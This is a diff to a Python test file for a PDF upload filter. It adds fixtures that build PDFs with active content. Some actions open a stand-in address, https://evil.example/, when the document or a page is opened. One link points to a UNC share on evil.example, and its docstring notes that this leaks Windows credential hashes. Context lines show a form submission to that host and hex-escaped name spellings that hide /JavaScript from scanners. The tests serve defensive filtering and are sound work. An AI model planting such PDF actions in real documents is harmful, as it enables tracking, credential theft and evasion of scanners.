@@ -78,6 +78,32 @@ def submit(document: Pdf) -> None:
     document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))
 
 
+def address(document: Pdf) -> Dictionary:
+    return Dictionary(S=Name.URI, URI=String("https://evil.example/"))
+
+
+def address_at_opening(document: Pdf) -> None:
+    document.Root.OpenAction = address(document)
+
+
+def address_after_a_page(document: Pdf) -> None:
+    first = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit], Next=address(document))
+    document.Root.OpenAction = first
+
+
+def address_of_a_page(document: Pdf) -> None:
+    document.pages[0].obj.AA = Dictionary(O=address(document))
+
+
+def file_under_the_pointer(document: Pdf) -> None:
+    """Windows sends the reader's name and a hash of their password to such a server."""
+    elsewhere = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"))
+    link = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], AA=Dictionary(E=elsewhere)
+    )
+    document.pages[0].obj.Annots = [document.make_indirect(link)]
+
+
 def hidden_by_spelling(content: bytes) -> bytes:
     """Names may spell any letter by its number (ISO 32000-2, 7.3.5)."""
     return content.replace(b"/JavaScript", b"/JavaS#63ript").replace(b"/JS", b"/J#53")
@@ -100,6 +126,10 @@ ACTIVE: dict[str, tuple[Any, str]] = {
     "a file": (saved(attachment), "files"),
     "a file of a page": (saved(attachment_of_a_page), "files"),
     "a form": (saved(xfa), "form"),
+    "an address at opening": (saved(address_at_opening), "opens"),
+    "an address after a page": (saved(address_after_a_page), "opens"),
+    "an address of a page": (saved(address_of_a_page), "opens"),
+    "a file under the pointer": (saved(file_under_the_pointer), "opens"),
 }  # fmt: skip
 
 
@@ -127,12 +157,22 @@ def to_an_address(document: Pdf) -> None:
     document.pages[0].obj.Annots = [link]
 
 
+def to_the_page_that_it_comes_from(document: Pdf) -> None:
+    """A loop, and a page whose link leads to an address."""
+    to_an_address(document)
+    again = document.make_indirect(Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit]))
+    again.Next = [again]
+    document.Root.OpenAction = again
+
+
 def with_a_plain_form(document: Pdf) -> None:
     box = Dictionary(FT=Name.Tx, T=String("name"), V=String("/JS"), Rect=[0, 0, 9, 9])
     document.Root.AcroForm = Dictionary(Fields=[document.make_indirect(box)])
 
 
-@pytest.mark.parametrize("make", [to_a_page, to_an_address, with_a_plain_form])
+@pytest.mark.parametrize(
+    "make", [to_a_page, to_an_address, to_the_page_that_it_comes_from, with_a_plain_form]
+)
 def test_a_harmless_pdf_is_taken(make: Make, app: Flask) -> None:
     with app.app_context():
         assert keep(saved(make)).pages == 1
